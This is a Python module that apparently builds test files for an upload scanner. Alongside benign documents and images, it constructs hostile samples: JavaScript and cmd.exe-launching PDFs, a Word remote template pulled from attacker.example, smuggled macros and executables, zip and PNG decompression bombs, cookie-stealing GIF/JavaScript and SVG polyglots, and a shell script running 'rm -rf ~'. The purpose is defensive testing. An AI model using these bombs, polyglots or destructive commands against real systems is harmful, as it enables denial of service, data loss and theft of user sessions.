"""Every sample file the upload tests need, built in code (no binary fixtures in git).

Each builder returns bytes. They aim to be real files, not just magic
numbers: the PDFs parse with pypdf, the .xlsx opens in openpyxl, the
pictures come from Pillow, the compound files follow [MS-CFB].
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import ExifTags, Image

# --- PDF ----------------------------------------------------------------------------


def pdf(*, catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = (), padding: int = 0) -> bytes:
    """A one-page PDF saying "Hello". ``extra_objects`` are numbered from 5 on."""
    content = b"BT /F1 24 Tf 72 720 Td (Hello) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    if padding:
        # A comment is the simplest way to make a valid PDF big.
        out += b"%" + b"x" * padding + b"\n"
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_with_javascript() -> bytes:
    return pdf(catalog_extra=b"/OpenAction << /S /JavaScript /JS (app.alert\\('hi'\\)) >>")


def pdf_with_escaped_javascript() -> bytes:
    """The same, with the names #-escaped the way malware hides them from naive scanners."""
    return pdf(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")


def pdf_with_launch() -> bytes:
    return pdf(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >>")


def pdf_with_embedded_file() -> bytes:
    attachment = b"MZ\x90\x00 pretend program"
    embedded = b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(attachment) + attachment + b"\nendstream"
    return pdf(
        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(setup.exe) "
        b"<< /Type /Filespec /EF << /F 5 0 R >> >>] >> >>",
        extra_objects=(embedded,),
    )


def pdf_with_javascript_in_object_stream() -> bytes:
    """JavaScript inside a compressed object stream: invisible in the raw bytes."""
    hidden = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
    header = b"6 0 "
    packed = zlib.compress(header + hidden)
    object_stream = (
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n" % (len(header), len(packed))
        + packed
        + b"\nendstream"
    )
    return pdf(catalog_extra=b"/OpenAction 6 0 R", extra_objects=(object_stream,))


def pdf_with_plain_object_stream() -> bytes:
    """A harmless compressed object stream, as every PDF 1.5+ writer produces."""
    inside = b"6 0 << /Producer (Shixun tests) >>"
    packed = zlib.compress(inside)
    object_stream = (
        b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream"
    )
    return pdf(extra_objects=(object_stream,))


def pdf_encrypted() -> bytes:
    data = pdf(extra_objects=(b"<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>",))
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 5 0 R")


# --- OOXML --------------------------------------------------------------------------

_PACKAGE_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="{main}"/></Relationships>'
)
_CT_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
)
_OOXML_PARTS = {
    "docx": {
        "main": "word/document.xml",
        "type": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        "parts": {
            "word/document.xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
            "<w:body><w:p><w:r><w:t>第一课 教案</w:t></w:r></w:p></w:body></w:document>"
        },
    },
    "xlsx": {
        "main": "xl/workbook.xml",
        "type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "parts": {
            "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="成绩" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>王秀英</t></is></c>'
            '<c r="B1"><v>95</v></c></row></sheetData></worksheet>',
        },
        "overrides": {
            "xl/worksheets/sheet1.xml": "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
        },
    },
    "pptx": {
        "main": "ppt/presentation.xml",
        "type": "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
        "parts": {
            "ppt/presentation.xml": '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">'
            '<p:sldSz cx="9144000" cy="6858000"/><p:notesSz cx="6858000" cy="9144000"/></p:presentation>'
        },
    },
}


def ooxml(
    kind: str = "docx",
    *,
    main_type: str | None = None,
    extra_parts: dict[str, bytes] | None = None,
    extra_overrides: dict[str, str] | None = None,
) -> bytes:
    """A minimal, valid Word/Excel/PowerPoint package; extras make the bad variants."""
    spec = _OOXML_PARTS[kind]
    overrides = {spec["main"]: main_type or spec["type"], **spec.get("overrides", {}), **(extra_overrides or {})}
    content_types = (
        _CT_HEAD
        + "".join(f'<Override PartName="/{part}" ContentType="{ct}"/>' for part, ct in overrides.items())
        + "</Types>"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", content_types)
        package.writestr("_rels/.rels", _PACKAGE_RELS.format(main=spec["main"]))
        for name, body in spec["parts"].items():
            package.writestr(name, body)
        for name, body in (extra_parts or {}).items():
            package.writestr(name, body)
    return buffer.getvalue()


def docm_named_docx() -> bytes:
    """A macro-enabled Word document, as Word saves it, waiting to be renamed .docx."""
    return ooxml(
        "docx",
        main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
        extra_parts={"word/vbaProject.bin": cfb({"VBA": {"dir": b"\x01" * 64}, "PROJECT": b"ID=1"})},
        extra_overrides={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"},
    )


def docx_with_vba_project_only() -> bytes:
    """Macros smuggled in under an innocent main content type: caught by the part name."""
    return ooxml("docx", extra_parts={"word/vbaProject.bin": b"\x00" * 32})


def docx_with_packaged_program() -> bytes:
    """An OLE "Package" object: how an .exe is dropped into a Word document."""
    package = cfb({"\x01Ole10Native": b"\x00\x00setup.exe\x00" + b"MZ\x90\x00" + b"\x00" * 64})
    return ooxml("docx", extra_parts={"word/embeddings/oleObject1.bin": package})


def docx_with_embedded_exe() -> bytes:
    return ooxml("docx", extra_parts={"word/media/image1.png": executable()})


def docx_with_remote_template() -> bytes:
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>'
    )
    return ooxml("docx", extra_parts={"word/_rels/settings.xml.rels": rels.encode()})


def docx_with_hyperlink() -> bytes:
    """An ordinary external hyperlink, which must stay allowed."""
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId9" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
        'Target="https://www.example.edu.cn/" TargetMode="External"/></Relationships>'
    )
    return ooxml("docx", extra_parts={"word/_rels/document.xml.rels": rels.encode()})


# --- ZIP bombs in Office files ------------------------------------------------------
#
# zipfile writes honest archives; the lying ones are assembled byte by byte
# (APPNOTE.TXT 4.3.7 local header, 4.3.12 central header, 4.3.16 end record).

MiB = 1024 * 1024


def raw_ooxml_members(kind: str) -> dict[str, bytes]:
    """Name -> unpacked bytes of the minimal valid package of ``kind``."""
    package = zipfile.ZipFile(io.BytesIO(ooxml(kind)))
    return {info.filename: package.read(info) for info in package.infolist()}




def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def _local(name: bytes, method: int, crc: int, stored: int, size: int) -> bytes:
    header = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0x800, method, 0, 0x21, crc, stored, size, len(name), 0)
    return header + name


def _central(name: bytes, method: int, crc: int, stored: int, size: int, offset: int) -> bytes:
    return struct.pack(
        "<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0x800, method, 0, 0x21, crc, stored, size, len(name),
        0, 0, 0, 0, 0, offset,
    ) + name


def _end(count: int, directory_size: int, directory_offset: int) -> bytes:
    return struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, directory_size, directory_offset, 0)


def raw_ooxml(
    kind: str = "docx",
    *,
    replace: dict[str, bytes] | None = None,
    claims: dict[str, int] | None = None,
    crcs: dict[str, int] | None = None,
) -> bytes:
    """A valid package's members, deflated, with ``replace``d contents, ``claims`` (name -> declared size)
    and ``crcs`` (name -> declared CRC-32).

    A claimed size is written into both headers while the CRC stays that of
    the real data, so only counting the unpacked bytes reveals the lie.
    """
    members = {**raw_ooxml_members(kind), **(replace or {})}
    body, directory = bytearray(), bytearray()
    for name, data in members.items():
        encoded, stored = name.encode(), _deflate(data)
        size = (claims or {}).get(name, len(data))
        crc = (crcs or {}).get(name, zlib.crc32(data))
        offset = len(body)
        body += _local(encoded, zipfile.ZIP_DEFLATED, crc, len(stored), size) + stored
        directory += _central(encoded, zipfile.ZIP_DEFLATED, crc, len(stored), size, offset)
    return bytes(body + directory + _end(len(members), len(directory), len(body)))


def docx_bomb(unpacked: int = 32 * MiB) -> bytes:
    """A Word document whose main part unpacks to ``unpacked`` bytes of blanks (about 1000:1), sizes honest."""
    members = raw_ooxml_members("docx")
    document = members["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b" " * unpacked, 1)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        for name, data in {**members, "word/document.xml": document}.items():
            bomb.writestr(name, data)
    return buffer.getvalue()


def docx_of_many_small_bombs(count: int = 40, each: int = MiB - 1) -> bytes:
    """Many parts, each just under the per-part ratio check, adding up to a bomb (40 MB from ~50 KB)."""
    return ooxml("docx", extra_parts={f"customXml/item{n}.xml": b" " * each for n in range(count)})


def zip_of(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def docx_holding_a_zip_of_a_zip_of_zeros(unpacked: int = 200 * MiB) -> bytes:
    """The attack of issue #17: each layer looks harmless, the innermost is a 1000:1 bomb."""
    inner = zip_of("zeros.bin", bytes(unpacked))
    return ooxml("docx", extra_parts={"word/embeddings/archive.zip": zip_of("inner.zip", inner)})


def docx_holding_zips_nested(levels: int) -> bytes:
    """A harmless text file ``levels`` archives deep inside a Word document."""
    data = "我的作业".encode()
    for level in range(levels):
        data = zip_of(f"level{level}.zip" if level else "作业.txt", data)
    return ooxml("docx", extra_parts={"word/embeddings/archive.zip": data})


def docx_with_embedded_workbook() -> bytes:
    """A chart's data: Word keeps an Excel workbook inside the document (one archive in another)."""
    return ooxml("docx", extra_parts={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": ooxml("xlsx")})


def docx_holding_a_zip_with_a_program() -> bytes:
    return ooxml("docx", extra_parts={"word/embeddings/tools.zip": zip_of("setup.bin", b"MZ\x90\x00" + bytes(64))})


def docx_whose_size_lies(real: int = 64 * MiB, claimed: int = 1024) -> bytes:
    """The main part claims ``claimed`` bytes but inflates to ``real`` (the CRC is the real data's)."""
    document = raw_ooxml_members("docx")["word/document.xml"].replace(b"<w:body>", b"<w:body>" + b" " * real, 1)
    return raw_ooxml("docx", replace={"word/document.xml": document}, claims={"word/document.xml": claimed})


def docx_with_overlapping_entries(copies: int = 8, kernel_size: int = 256 * 1024) -> bytes:
    """A valid Word document plus ``copies`` entries sharing one stored "kernel" (CVE-2024-0450).

    The shape of David Fifield's "better zip bomb", uncompressed: each extra
    file's data runs from the end of its own local header to the end of the
    kernel, so it contains the headers of all the files after it; every name
    and CRC is right, so Python 3.11.7's zipfile reads them all.
    """
    prefix = raw_ooxml("docx")
    end = prefix.rfind(b"PK\x05\x06")
    count, directory_size, directory_offset = struct.unpack_from("<HLL", prefix, end + 10)
    body = bytearray(prefix[:directory_offset])
    directory = bytearray(prefix[directory_offset : directory_offset + directory_size])
    names = [f"customXml/copy{n}.xml".encode() for n in range(copies)]
    tail, records = b"\x00" * kernel_size, []
    for name in reversed(names):  # a file's CRC covers the headers after it: build backwards
        records.append((name, zlib.crc32(tail), len(tail)))
        tail = _local(name, zipfile.ZIP_STORED, zlib.crc32(tail), len(tail), len(tail)) + tail
    offset = len(body)
    for name, crc, size in reversed(records):
        directory += _central(name, zipfile.ZIP_STORED, crc, size, size, offset)
        offset += 30 + len(name)
    body += tail
    return bytes(body + directory + _end(count + copies, len(directory), len(body)))


def docx_with_large_picture(size: int = 3 * MiB) -> bytes:
    """A real-looking heavy document: a photo barely compresses, so its ratio is about 1."""
    import random

    noise = random.Random(8).randbytes(size)  # noqa: S311 - test data, not a secret
    return ooxml("docx", extra_parts={"word/media/image1.jpeg": b"\xff\xd8\xff\xe0" + noise})


def xlsx_of_many_rows(rows: int = 40_000) -> bytes:
    """A large but honest workbook: repetitive sheet XML compresses well (tens to one), not like a bomb."""
    cells = "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>教师{n % 997}</t></is></c>'
        f'<c r="B{n}"><v>{n * 7 % 1000}</v></c></row>'
        for n in range(1, rows + 1)
    )
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        f'spreadsheetml/2006/main"><sheetData>{cells}</sheetData></worksheet>'
    ).encode()
    members = raw_ooxml_members("xlsx")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in {**members, "xl/worksheets/sheet1.xml": sheet}.items():
            package.writestr(name, data)
    return buffer.getvalue()


class _Unseekable(io.RawIOBase):
    """A write-only stream: zipfile then writes each member's sizes after its data (a data descriptor)."""

    def __init__(self):
        self.buffer = io.BytesIO()

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        return self.buffer.write(data)


def docx_streamed() -> bytes:
    """A Word document written as a stream, with data descriptors, as Java-based and WPS writers do."""
    stream = _Unseekable()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in raw_ooxml_members("docx").items():
            package.writestr(name, data)
    return stream.buffer.getvalue()


def xlsx_from_openpyxl(rows: int = 20_000) -> bytes:
    """A real workbook written by openpyxl (what a school admin's own tools export)."""
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.append(["姓名", "工号", "学时"])
    for n in range(rows):
        sheet.append([f"教师{n % 997}", f"T{n:05d}", n % 80])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def xlsx_from_xlsxwriter(rows: int = 20_000) -> bytes:
    """A real workbook written by XlsxWriter (what Shixun's own Excel exports are made with)."""
    import xlsxwriter

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = workbook.add_worksheet("学时")
    for n in range(rows):
        sheet.write_row(n, 0, [f"教师{n % 997}", f"T{n:05d}", n % 80])
    workbook.close()
    return buffer.getvalue()


def plain_zip(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in (members or {"作业.txt": "我的作业".encode()}).items():
            archive.writestr(name, body)
    return buffer.getvalue()


def opendocument_text() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


# --- OLE2 compound files ([MS-CFB]) -------------------------------------------------

_FREE, _END, _FAT_SECTOR, _NONE = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_MSI_CLSID = bytes.fromhex("84100C0000000000C000000000000046")


def cfb(tree: dict, *, root_clsid: bytes = b"\x00" * 16) -> bytes:
    """A version-3 compound file (512-byte sectors) holding ``tree``: name -> bytes (stream) or dict (storage).

    Streams are padded to 4096 bytes so they live in ordinary sectors and no
    mini-stream is needed. Siblings are chained through their right pointers,
    a valid (if unbalanced) tree.
    """
    entries: list[dict] = [{"name": "Root Entry", "type": 5, "child": _NONE, "clsid": root_clsid}]
    streams: list[tuple[int, bytes]] = []

    def add(children: dict) -> int:
        indexes = []
        for name, value in children.items():
            index = len(entries)
            entries.append({"name": name, "type": 1 if isinstance(value, dict) else 2, "child": _NONE})
            indexes.append(index)
            if isinstance(value, dict):
                entries[index]["child"] = add(value)
            else:
                streams.append((index, value.ljust(4096, b"\x00")))
        for index, following in zip(indexes, [*indexes[1:], _NONE], strict=True):
            entries[index]["right"] = following
        return indexes[0] if indexes else _NONE

    entries[0]["child"] = add(tree)
    directory_sectors = -(-len(entries) // 4)
    fat = [_FAT_SECTOR] + [*range(2, directory_sectors + 1), _END]
    for index, data in streams:
        first = len(fat)
        count = len(data) // 512
        fat += [*range(first + 1, first + count), _END]
        entries[index]["start"], entries[index]["size"] = first, len(data)
    assert len(fat) <= 128, "sample too big for one FAT sector"
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        bytes.fromhex("D0CF11E0A1B11AE1"),
        b"\x00" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,
        1,
        1,
        0,
        4096,
        _END,
        0,
        _END,
        0,
    ) + struct.pack("<109I", 0, *[_FREE] * 108)
    sectors = [struct.pack("<128I", *fat, *[_FREE] * (128 - len(fat)))]
    unused = _entry({"name": "", "type": 0, "child": _NONE})
    raw_entries = b"".join(_entry(e) for e in entries) + unused * (directory_sectors * 4 - len(entries))
    sectors += [raw_entries[i : i + 512] for i in range(0, len(raw_entries), 512)]
    sectors += [data for _index, data in streams]
    return header + b"".join(sectors)


def _entry(e: dict) -> bytes:
    name = e["name"].encode("utf-16-le")
    return struct.pack(
        "<64sHBBIII16sIQQIQ",
        name,
        len(name) + 2 if e["name"] else 0,
        e["type"],
        1,
        _NONE,
        e.get("right", _NONE),
        e["child"],
        e.get("clsid", b"\x00" * 16),
        0,
        0,
        0,
        e.get("start", _END if e["type"] == 2 else 0),
        e.get("size", 0),
    )


def legacy_word(**extra) -> bytes:
    return cfb({"WordDocument": b"\xec\xa5" + b"\x00" * 30, "1Table": b"\x00" * 16, **extra})


def legacy_excel() -> bytes:
    return cfb({"Workbook": b"\x09\x08" + b"\x00" * 14})


def legacy_powerpoint() -> bytes:
    return cfb({"PowerPoint Document": b"\x00" * 16, "Current User": b"\x00" * 16})


def legacy_word_with_macros() -> bytes:
    return legacy_word(Macros={"VBA": {"dir": b"\x01" * 16}, "PROJECT": b"ID=1"})


def password_protected_docx() -> bytes:
    """What Word writes for a .docx with "Encrypt with Password": a compound file, not a ZIP."""
    return cfb({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x00" * 64})


def msi_installer() -> bytes:
    return cfb({"\u4840\u3f3f": b"\x00" * 16}, root_clsid=_MSI_CLSID)


# --- Pictures -----------------------------------------------------------------------

SECRET = "Shixun-secret-marker"


def _exif(*, orientation: int | None = None) -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = SECRET
    exif[ExifTags.Base.ImageDescription] = SECRET
    if orientation:
        exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (38.0, 56.0, 12.0)  # 张掖
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (100.0, 27.0, 18.0)
    return exif


def photo(fmt: str = "JPEG", *, size=(40, 20), orientation: int | None = 6) -> bytes:
    """A phone-like photo: wider than tall, EXIF orientation "rotate 90°", GPS position, camera make."""
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((30, 30, 200), (0, 0, size[0] // 2, size[1]))  # left half blue, to see the rotation
    buffer = io.BytesIO()
    extra = {"comment": SECRET.encode()} if fmt == "JPEG" else {}
    image.save(buffer, fmt, exif=_exif(orientation=orientation), **extra)
    return buffer.getvalue()


def png_with_text() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", SECRET)
    info.add_itxt("XML:com.adobe.xmp", f"<x:xmpmeta>{SECRET}</x:xmpmeta>")
    image = Image.new("RGBA", (8, 8), (0, 128, 0, 128))
    buffer = io.BytesIO()
    image.save(buffer, "PNG", pnginfo=info, exif=_exif())
    return buffer.getvalue()


def animated_gif() -> bytes:
    frames = [Image.new("RGB", (10, 10), colour) for colour in ((255, 0, 0), (0, 255, 0), (0, 0, 255))]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=120, loop=0, comment=SECRET)
    return buffer.getvalue()


def webp() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (12, 12), (10, 200, 10)).save(buffer, "WEBP", exif=_exif())
    return buffer.getvalue()


def heic() -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    buffer = io.BytesIO()
    Image.new("RGB", (16, 16), (10, 10, 200)).save(buffer, "HEIF", exif=_exif())
    return buffer.getvalue()


def png_bomb(width: int, height: int) -> bytes:
    """A real, complete PNG of ``width`` x ``height`` black 1-bit pixels: tiny on disk, huge in memory."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    row = b"\x00" * (1 + -(-width // 8))  # filter byte + packed bits
    compressor = zlib.compressobj(9)
    rows_at_once = 256
    idat = b"".join(compressor.compress(row * rows_at_once) for _ in range(height // rows_at_once))
    idat += compressor.compress(row * (height % rows_at_once)) + compressor.flush()
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def jpeg_with_zip() -> bytes:
    """The classic polyglot: a picture that is also a ZIP archive holding a program."""
    return photo(orientation=None) + plain_zip(**{"run.exe": executable()})


def jpeg_with_pdf_header() -> bytes:
    """A JPEG whose comment puts "%PDF-" where PDF readers look for it."""
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8)).save(buffer, "JPEG", comment=b"%PDF-1.4 1 0 obj << >> endobj")
    return buffer.getvalue()


def gif_javascript_polyglot() -> bytes:
    """A GIF that is also valid JavaScript: width bytes spell "/*", the script follows the picture."""
    buffer = io.BytesIO()
    Image.new("P", (0x2A2F, 1)).save(buffer, "GIF")  # 0x2A2F little-endian is b"/*"
    return buffer.getvalue() + b"*/=alert(document.cookie);"


def png_with_script_chunk() -> bytes:
    """Markup inside a PNG text chunk: not after the end, still a page to a lenient browser."""
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", "<script>alert(1)</script>")
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, "PNG", pnginfo=info)
    return buffer.getvalue()


def png_with_trailing_data() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (4, 4)).save(buffer, "PNG")
    return buffer.getvalue() + b"hidden payload after IEND"


def truncated_png() -> bytes:
    buffer = io.BytesIO()
    Image.effect_noise((64, 64), 50).save(buffer, "PNG")
    data = buffer.getvalue()
    return data[: len(data) // 2]


# --- Programs, archives, markup, text -----------------------------------------------


def executable() -> bytes:
    """The start of a Windows program: DOS header pointing at a PE header."""
    dos = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    return bytes(dos) + stub + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 200


def shell_script() -> bytes:
    return b"#!/bin/sh\nrm -rf ~\n"


def svg_with_script() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script><rect width='10' height='10'/></svg>"
    )


def html_page() -> bytes:
    return "<!DOCTYPE html>\n<html><body><script>alert(1)</script>作业</body></html>".encode()


LESSON_NOTES = "第一课：认识分数\n教学目标：理解二分之一。\n作业：课本第 12 页。\n"


def gbk_text() -> bytes:
    return LESSON_NOTES.encode("gbk")


def utf16_text() -> bytes:
    return LESSON_NOTES.encode("utf-16")  # with BOM, as Notepad's "Unicode" saves


def rtf() -> bytes:
    return rb"{\rtf1\ansi{\object\objemb{\*\objdata 0105000002000000}}}"
